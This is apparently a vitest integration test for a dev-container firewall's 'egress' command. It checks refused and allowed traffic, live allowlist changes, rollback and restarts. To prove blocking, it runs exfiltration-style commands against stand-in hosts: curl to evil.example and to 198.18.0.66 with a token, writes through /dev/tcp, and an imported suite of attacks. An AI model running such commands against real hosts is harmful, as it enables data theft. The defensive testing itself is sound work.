import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from '../firewall/attacks/attack.js';
import { attacks } from '../firewall/attacks.js';
import { arrives, escapes, refusesAttacks } from '../firewall/checks.js';
import { type Internet, startInternet } from '../firewall/internet.js';
import { listedNames } from '../firewall/listed.js';
import { run } from '../firewall/run.js';
import { installAttacks, type Scene } from '../firewall/target.js';
import { type DevContainer, devContainer, docker, harden, missingEngine, plainContainer } from './engine.js';
import { joinGateway, joinInternet, newProject, removeProjects, sidecar, startControl } from './project.js';

// `egress` as a user runs it, on real containers: what it shows, and that it opens a name while the container works.

const skip = missingEngine() !== undefined;
let internet: Internet;

beforeAll(async () => {
  if (!skip) internet = await startInternet();
});
afterAll(() => {
  removeProjects();
  internet?.stop();
});

interface Entry {
  readonly verdict: string;
  readonly name: string | null;
  readonly listed: boolean;
  readonly lookups: number;
  readonly connections: number;
  readonly ports: readonly number[];
  readonly up: number;
  readonly down: number;
  readonly causes: Readonly<Record<string, number>>;
}

interface Report {
  readonly mode: string;
  readonly entries: readonly Entry[];
  readonly destinations: readonly {
    readonly address: string;
    readonly port: number;
    readonly names: string[];
  }[];
}

/** The report, once the connection that a script has just ended is in the log. */
async function reportOf(folder: string, has: (report: Report) => boolean): Promise<Report> {
  let report: Report | undefined;
  for (let tries = 0; tries < 10; tries += 1) {
    const { code, stdout, stderr } = harden('egress', folder, '--format', 'json');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    report = JSON.parse(stdout) as Report;
    if (has(report)) break;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  if (!report) throw new Error('there is no report');
  return report;
}

const entryOf = ({ entries }: Report, name: string, verdict: string): Entry | undefined =>
  entries.find((entry) => entry.name === name && entry.verdict === verdict);

const flags = ['--stack', 'python', '--agent', 'none'];

/** Starts a container of the shape. `firewall` is where the firewall runs. */
function start(shape: string, ...more: string[]): { container: DevContainer; firewall: string } {
  const folder = newProject(...flags, '--shape', shape, ...listedNames, ...more);
  if (shape === 'sidecar') {
    joinGateway(internet, folder, ['network_mode: bridge']);
    const { workspace, gateway } = sidecar(folder);
    return { container: workspace, firewall: gateway };
  }
  joinInternet(internet, folder);
  const container = devContainer(folder);
  return { container, firewall: container.id };
}

/** Asks over one TLS connection, again and again for eight seconds, and prints how often there was no answer. */
const steadyTls = `python3 - <<'END'
import socket, ssl, time
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
plain = socket.create_connection(('allowed.example', 443), 5)
connection = context.wrap_socket(plain, server_hostname='allowed.example')
missing = 80
for turn in range(80):
    connection.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n')
    if b'200 OK' in connection.recv(4096): missing -= 1
    time.sleep(0.1)
print('missing', missing)
END`;

/** The same over a connection that no proxy carries. */
const steadyPort = `python3 - <<'END'
import socket, time
connection = socket.create_connection(('ssh.example', 22), 5)
missing = 80
for turn in range(80):
    connection.sendall(b'GET / HTTP/1.1\\r\\nHost: ssh.example\\r\\n\\r\\n')
    if b'200 OK' in connection.recv(4096): missing -= 1
    time.sleep(0.1)
print('missing', missing)
END`;

const reach = (scheme: string): string => `curl -sS -k -m 5 ${scheme}://four.example/`;

describe.skipIf(skip).each(['single', 'sidecar'])('egress and a container of shape %s', (shape) => {
  let container: DevContainer;
  let firewall: string;
  let control: string;

  beforeAll(async () => {
    ({ container, firewall } = start(shape));
    control = startControl(internet, docker('inspect', '--format', '{{.Image}}', container.id));
    await installAttacks(container, plainContainer(control));
  });
  afterAll(() => {
    run('docker', ['rm', '--force', control]);
  });

  const scene: Scene = {
    internet: () => internet,
    target: () => container,
    control: () => plainContainer(control),
  };
  const list = (): string => readFileSync(join(container.folder, '.devcontainer', 'allowlist'), 'utf8');
  const policy = (): string =>
    readFileSync(join(container.folder, '.devcontainer', 'harden-devcontainer.jsonc'), 'utf8');
  const inForce = (): string => docker('exec', firewall, 'cat', '/etc/harden-devcontainer/allowlist');

  it('shows what was refused, by whom, and what was let out', async () => {
    await container.attempt(`${reach('https')}; ${reach('https')}
curl -sS -k -m 5 --resolve evil.example:443:198.18.0.66 https://evil.example/
curl -sS -m 5 --resolve evil.example:80:198.18.0.66 http://evil.example/
printf 'no TLS at all' >/dev/tcp/198.18.0.66/443
curl -sS -k -m 5 https://allowed.example/
exec 3<>/dev/tcp/ssh.example/22`);
    const report = await reportOf(container.folder, (one) => !!entryOf(one, 'allowed.example', 'allowed'));
    expect(entryOf(report, 'four.example', 'refused')).toMatchObject({
      lookups: 2,
      connections: 0,
      listed: false,
      causes: { resolver: 2 },
    });
    expect(entryOf(report, 'evil.example', 'refused')).toMatchObject({
      ports: [80, 443],
      connections: 2,
      causes: { proxy: 2 },
    });
    expect(report.entries).toContainEqual(expect.objectContaining({ name: null, causes: { 'no-tls': 1 } }));
    const allowed = entryOf(report, 'allowed.example', 'allowed');
    expect(allowed).toMatchObject({ connections: 1, ports: [443], listed: true });
    expect(allowed?.down).toBeGreaterThan(500);
    expect(entryOf(report, 'ssh.example', 'allowed')).toMatchObject({ connections: 0, lookups: 1 });
    const { stdout } = harden('egress', container.folder);
    expect(stdout).toMatch(/Refused \(\d names\)\n.*\n(?:.*\n)* +2 .* four\.example +resolver\n/);
  });

  it('opens a name in the running container, and cuts no connection', async () => {
    const steady = [container.attempt(steadyTls), container.attempt(steadyPort)];
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const { code, stderr } = harden(
      'egress',
      container.folder,
      '--allow',
      'four.example',
      '--reason',
      'its docs',
    );
    expect(stderr).toMatch(/took the new list while it runs; connections stay/);
    expect(code).toBe(0);
    expect(await container.attempt(`${reach('https')} && ${reach('http')}`)).toMatchObject({
      code: 0,
      stdout: 'from 198.18.0.10from 198.18.0.10',
    });
    for (const outcome of await Promise.all(steady))
      expect(outcome).toMatchObject({ code: 0, stdout: 'missing 0\n' });
    expect(list()).toContain('# its docs\nfour.example\n');
    expect(`${inForce()}\n`).toBe(list());
  });

  it('shows it as open from then on', async () => {
    const report = await reportOf(container.folder, (one) => !!entryOf(one, 'four.example', 'allowed'));
    expect(entryOf(report, 'four.example', 'allowed')).toMatchObject({ listed: true, ports: [80, 443] });
    expect(entryOf(report, 'four.example', 'refused')).toMatchObject({ listed: true });
  });

  // One attack of each kind says whether the new rules are the old ones but for a name.
  refusesAttacks(
    scene,
    attacks.filter((one, index) => !one.ipv6 && index % 16 === 0),
  );

  it('puts everything back where the container cannot take the list', async () => {
    const before = [policy(), list(), inForce()];
    const awk = '/usr/local/lib/harden-devcontainer/allowlist.awk';
    docker(
      'exec',
      '--user',
      'root',
      firewall,
      'sh',
      '-c',
      `sed -i '1i { fail("is broken by a test") }' ${awk}`,
    );
    const { code, stderr } = harden('egress', container.folder, '--allow', 'bare.example', '--reason', 'x');
    expect(code).toBe(2);
    expect(stderr).toMatch(/did not take the new list: .*is broken by a test/);
    expect([policy(), list(), inForce()]).toEqual(before);
    const token = newToken();
    await container.attempt(`curl -sS -m 3 http://198.18.0.66/${token}; curl -sS -m 3 http://bare.example/`);
    expect(await escapes(scene, token)).toBe(false);

    docker('exec', '--user', 'root', firewall, 'sed', '-i', '1d', awk);
    expect(harden('egress', container.folder, '--allow', 'bare.example', '--reason', 'x').code).toBe(0);
    expect((await container.attempt('curl -sS -m 5 http://bare.example/')).code).toBe(0);
  });

  it('keeps it over a restart', async () => {
    for (const id of new Set([firewall, container.id])) docker('restart', '--time', '2', id);
    expect((await container.exec('/usr/local/bin/harden-ready')).code).toBe(0);
    const token = newToken();
    expect((await container.attempt(`curl -sS -k -m 5 https://four.example/${token}`)).code).toBe(0);
    expect(await arrives(scene, token)).toBe(true);
  });

  it('reads the log of a container that has stopped, and leaves its files to the next build', () => {
    docker('stop', '--time', '2', firewall);
    expect(harden('egress', container.folder).stdout).toMatch(/, exited\)\n[\s\S]*evil\.example/);
    const { code, stderr } = harden('egress', container.folder, '--allow', 'pypi.example', '--reason', 'x');
    expect(code).toBe(0);
    expect(stderr).toMatch(/is not running but exited; the list is used when the container is built next/);
  });
});

describe.skipIf(skip)('egress and a container that observes', () => {
  it('lists what it let through: by name, and by address on other ports', async () => {
    const { container } = start('single', '--observe');
    await container.attempt(`${reach('https')}; exec 3<>/dev/tcp/bare.example/22; echo >&3
exec 4<>/dev/tcp/198.18.0.66/8080; echo >&4`);
    const report = await reportOf(container.folder, (one) => !!entryOf(one, 'four.example', 'observed'));
    expect(report.mode).toBe('observe');
    expect(entryOf(report, 'four.example', 'observed')).toMatchObject({ ports: [443], listed: false });
    expect(entryOf(report, 'bare.example', 'observed')).toMatchObject({ connections: 0 });
    expect(report.destinations).toContainEqual(
      expect.objectContaining({
        address: '198.18.0.10',
        port: 22,
        names: expect.arrayContaining(['bare.example']),
      }),
    );
    expect(report.destinations).toContainEqual(
      expect.objectContaining({ address: '198.18.0.66', port: 8080, names: [] }),
    );
    expect(harden('egress', container.folder).stdout).toMatch(/OBSERVE:[\s\S]*Let through on other ports/);
  });
});
